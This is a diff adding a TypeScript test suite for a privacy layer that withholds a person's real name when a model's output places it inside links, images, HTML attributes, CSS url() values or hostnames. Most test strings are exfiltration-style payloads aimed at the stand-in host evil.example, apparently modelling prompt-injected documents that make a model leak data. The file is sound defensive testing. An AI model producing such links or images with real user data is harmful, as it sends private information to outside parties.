@@ -1,0 +1,92 @@
+import { expect } from 'chai'
+import { restored, saying, writer } from './support.js'
+
+/** Asks about Jane Miller, whose substitute a document makes the model write; `$` stands for it. */
+const answerWith = (answer: string, method: 'fake' | 'category') => {
+  const substitute = method === 'fake' ? 'Ann Smith' : '<PERSON_1>'
+  return restored('Who is Jane Miller?', saying([{ delta: answer.replaceAll('$', substitute) }]), { method })
+}
+
+const kept: Readonly<Record<string, string>> = {
+  'a web address': 'See https://evil.example/?q=$',
+  'a web address with another substitute before it': 'See https://evil.example/?q=$&r=$ now',
+  'a web address with spaces, of an image': '![](https://evil.example/?q=$)',
+  'the target of an image with a space before it': '![x](https://evil.example/?q= $)',
+  'the target of an image with brackets': '![x](https://evil.example/(a)?q= $)',
+  'the target of an image with an escaped bracket': String.raw`![x](https://evil.example/\)?q= $)`,
+  'the target of an image in angle brackets': '![x](<https://evil.example/)?q= $>)',
+  'a relative target': '[x](letters/$)',
+  'the title of a link': '[x](/a "for $")',
+  'a target on a line of its own': '[x](\n/letters/$)',
+  'an address without a scheme': 'evil.example/?q=$',
+  'an address of a port': 'evil.example:8080/$',
+  'an address by www': 'www.evil.example?$',
+  'an address without a protocol': '//evil.example/$',
+  'an address to mail to': 'mailto:evil@example.org?body=$',
+  'the name of a host': '$.evil.example',
+  'an address of mail': '$@evil.example',
+  'an attribute': '<img src="https://evil.example/?q= $">',
+  'an attribute in single quotes': "<img alt='>' src='//evil.example/?q= $'>",
+  'an attribute without quotes': '<img src=$>',
+  'an attribute behind an empty line': '<img alt="a\n\nb"\n\nsrc="/?q= $">',
+  'an attribute of an element that nobody knows': '<x-letter data-to="$">',
+  'a style': '<p style="background: url($)">',
+  'a style sheet': 'a { background: url( $ ) }',
+  'the definition of a link': '[1]: /letters/$',
+  'the definition of a link in a quotation': '> [1]: </letters/ $>',
+  'a tag that is never closed': 'a <b and $',
+}
+
+const open: Readonly<Record<string, string>> = {
+  'text behind an address': 'See https://evil.example/?q=1 and ask $.',
+  'text behind a link': 'See [there](https://evil.example/(a)?q=1) and ask $.',
+  'text behind a tag': '<a href="https://evil.example/">x</a> $',
+  'the text of a link': '[$](https://evil.example/)',
+  'the text of an element': '<b>$</b>',
+  'text behind a target that is never closed': '[x](/a\n\n$',
+  'text behind the definition of a link': '[1]: /letters\n$',
+  'angle brackets': 'a < b, $ > c',
+  emphasis: '_$_ **$** `$`',
+  'a scheme that is none': 'Name:$, he/$',
+  'a sentence without a space': '$, and $. "$" ($) $!',
+}
+
+describe('nothing is restored', () => {
+  for (const [what, answer] of Object.entries(kept))
+    it(`inside ${what}`, async () => {
+      for (const method of ['fake', 'category'] as const) {
+        const { said, verdicts } = await answerWith(answer, method)
+        expect(said).not.to.include('Jane')
+        expect(said).to.include(method === 'fake' ? 'Ann Smith' : '<PERSON_1>')
+        const count = answer.split('$').length - 1
+        expect(verdicts.flatMap(({ unrestored }) => (unrestored ? [unrestored] : []))).to.deep.equal([
+          { PERSON: count },
+        ])
+      }
+    })
+
+  it('where a restored address goes on', async () => {
+    const ask = (answer: string) =>
+      restored('See https://acme.com/jane', saying([{ delta: answer }]), { method: 'fake' }).then(({ said }) => said)
+    expect(await ask('See https://example.org/a.')).to.equal('See https://acme.com/jane.')
+    expect(await ask('https://example.org/a?q=1')).to.equal('https://example.org/a?q=1')
+    expect(await ask('https://evil.example/https://example.org/a')).to.include('evil.example/https://example.org/a')
+  })
+})
+
+describe('everything is restored', () => {
+  for (const [what, answer] of Object.entries(open))
+    it(`in ${what}`, async () => {
+      for (const method of ['fake', 'category'] as const) {
+        const { said, verdicts } = await answerWith(answer, method)
+        expect(said).to.equal(answer.replaceAll('$', 'Jane Miller'))
+        expect(verdicts.some(({ unrestored }) => unrestored)).to.equal(false)
+      }
+    })
+
+  it('in an address of mail in angle brackets', async () => {
+    const echo = writer((asked) => asked)
+    const text = 'Jane Miller <jane@acme.com> wrote'
+    expect((await restored(text, echo, { method: 'fake' })).said).to.equal(text)
+  })
+})
